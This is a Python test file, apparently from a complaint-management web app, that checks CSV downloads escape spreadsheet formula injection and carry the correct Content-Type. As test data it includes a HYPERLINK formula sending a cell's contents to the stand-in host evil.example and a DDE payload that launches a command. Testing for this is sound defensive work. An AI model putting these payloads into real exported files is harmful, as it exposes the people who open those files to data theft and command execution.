"""Formula cells neutralised in every CSV, with one correct Content-Type (issue 15, finding 3)."""

from __future__ import annotations

import csv
import io
import re

import pytest

from tests.console_data import agency, make_complaint
from tests.conftest import login

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Klik detail")'
CALC = "+cmd|' /C calc'!A0"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("value, expected", [
    (HYPERLINK, "'" + HYPERLINK), (CALC, "'" + CALC), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("+6281234567890", "+6281234567890"), ("-12.5", "-12.5"), (-3, -3), ("Jalan rusak", "Jalan rusak"),
])  # fmt: skip
def test_safe_cell(value, expected) -> None:  # noqa: ANN001
    from web.csv_export import safe_cell

    assert safe_cell(value) == expected


def _csv_urls(client) -> list[str]:  # noqa: ANN001
    """Every CSV download linked from the dashboard, the priority issues and the handover pages."""
    urls = set()
    for page in ("/dasbor/?periode=365", "/dasbor/isu?periode=365", "/serah-terima/", "/serah-terima/luar-wewenang"):
        urls.update(u.replace("&amp;", "&") for u in re.findall(r'href="([^"]+\.csv[^"]*)"', client.get(page).text))
    urls.update({"/serah-terima/ekspor.csv?semua=1", "/serah-terima/luar-wewenang.csv"})
    return sorted(urls)


def test_every_csv_neutralises_formulas(client, session, settings, users) -> None:  # noqa: ANN001
    from models.analytics import recluster

    agency(session, "dpubmpr").name = "@SUM(1+1) Dinas PU"
    for i in range(3):
        make_complaint(session, settings, "ditindaklanjuti", title=HYPERLINK if i else CALC, reporter=CALC)
    session.commit()
    recluster(session)
    session.commit()
    login(client, "admin")
    urls = _csv_urls(client)
    assert len(urls) >= 8, urls
    seen_neutralised = 0
    for url in urls:
        response = client.get(url)
        assert response.status_code == 200, url
        assert response.headers["Content-Type"] == "text/csv; charset=utf-8", url
        for row in csv.reader(io.StringIO(response.data.decode("utf-8-sig"))):
            for cell in row:
                assert not (cell.startswith(FORMULA_START) and not re.fullmatch(r"[+-]?[\d][\d .,]*", cell)), f"{url}: {cell!r}"
                seen_neutralised += cell.startswith(("'=", "'+", "'@"))
    assert seen_neutralised >= 3
